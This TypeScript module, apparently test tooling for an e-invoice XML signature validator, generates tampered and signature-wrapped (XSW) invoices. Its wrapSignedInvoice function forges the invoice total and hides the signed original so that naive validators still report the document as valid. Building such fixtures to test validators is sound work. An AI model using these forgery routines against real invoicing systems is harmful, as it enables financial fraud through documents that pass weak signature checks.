import { parseXml } from "../formats/xml/parse.js";
import { childElements, DSIG_NS, type XmlDocument, type XmlElement } from "../formats/xml/tree.js";
import { serializeXml } from "./xml-serialize.js";

function all(doc: XmlDocument, local: string): XmlElement[] {
  const out: XmlElement[] = [];
  const stack = [doc.root];
  while (stack.length > 0) {
    const e = stack.pop()!;
    if (e.local === local) out.push(e);
    for (const c of childElements(e).reverse()) stack.push(c);
  }
  return out;
}

function nth(doc: XmlDocument, local: string, occurrence: number): XmlElement {
  const el = all(doc, local)[occurrence];
  if (!el) throw new TypeError(`no <${local}> number ${occurrence + 1} in the document`);
  return el;
}

/** The markup of an element as written by the serializer, its in-scope namespaces not added. */
function markup(el: XmlElement): string {
  const text = serializeXml({ root: el, before: [], after: [], nodeCount: 0 });
  return text.slice(text.indexOf("?>") + 2);
}

/**
 * Changes the text of one element of a signed document without re-signing it (the reader's view changes, the
 * signature no longer matches).
 *
 * @param xml - a signed document
 * @param local - the element's local name, e.g. `TgTTTBSo`
 * @param value - the new text
 * @param occurrence - which one (0-based, document order); default 0
 * @returns the tampered document
 * @example
 * ```ts
 * const forged = tamperXmlText(signed, "TgTTTBSo", "1"); // keyCorrespondence fails HASH_MISMATCH
 * ```
 */
export function tamperXmlText(xml: string, local: string, value: string, occurrence = 0): string {
  const doc = parseXml(xml);
  const el = nth(doc, local, occurrence);
  const esc = value.replace(/&/g, "&amp;").replace(/</g, "&lt;");
  const replaced = markup(el).replace(/^(<[^>]*>)[\s\S]*(<\/[^>]*>)$/, (_m, open: string, close: string) => `${open}${esc}${close}`);
  return serializeXml(doc, { replace: new Map([[el, replaced]]) });
}

/** Where {@link wrapSignedInvoice} hides the signed `DLHDon`. */
export type WrapPlacement =
  /** In a new `ds:Object` of the seller's signature (the reference still resolves and its digest matches). */
  | "signature-object"
  /** Inside the forged `DLHDon` (under its `TTKhac`), as an "extension". */
  | "extension"
  /** Beside the forged one, both with the same `Id` (a first-match resolver picks the forged one). */
  | "duplicate-id";

/**
 * A signature-wrapping (XSW) attack on a signed invoice: the reader's `DLHDon` is replaced by a forged copy whose total
 * is changed, and the signed original is kept elsewhere so that naive validators still find it and report valid.
 *
 * @param xml - an invoice signed by the seller
 * @param options - where to hide the original, and the forged total
 * @returns the wrapped document
 * @example
 * ```ts
 * const attack = wrapSignedInvoice(signed, { placement: "signature-object", total: "1" });
 * // validateXml: keyCorrespondence FAILED, NOT_BOUND_TO_DOCUMENT
 * ```
 */
export function wrapSignedInvoice(xml: string, options: { readonly placement: WrapPlacement; readonly total?: string }): string {
  const doc = parseXml(xml);
  const original = nth(doc, "DLHDon", 0);
  const id = original.attributes.find((a) => a.local === "Id")?.value ?? "";
  const signed = markup(original);
  let forged = signed.replace(/<TgTTTBSo>[^<]*<\/TgTTTBSo>/, `<TgTTTBSo>${options.total ?? "1"}</TgTTTBSo>`);
  if (options.placement !== "duplicate-id") forged = forged.replace(` Id="${id}"`, ` Id="${id}-forged"`);
  if (options.placement === "extension") forged = forged.replace(/<\/DLHDon>$/, `<TTKhac>${signed}</TTKhac></DLHDon>`);
  if (options.placement === "duplicate-id") forged = `${forged}${signed}`;
  const replace = new Map([[original, forged]]);
  if (options.placement !== "signature-object") return serializeXml(doc, { replace });
  const seller = all(doc, "Signature").find((s) => s.ns === DSIG_NS && s.parent?.local === "NBan");
  if (!seller) throw new TypeError("no seller signature to hide the original in");
  const prefix = seller.prefix ? `${seller.prefix}:` : "";
  // Under a signature in the default XMLDSig namespace, xmlns="" keeps the moved element's canonical form unchanged.
  const moved = prefix === "" ? signed.replace(/^<DLHDon/, '<DLHDon xmlns=""') : signed;
  return serializeXml(doc, { replace, appendTo: seller, append: `<${prefix}Object>${moved}</${prefix}Object>` });
}
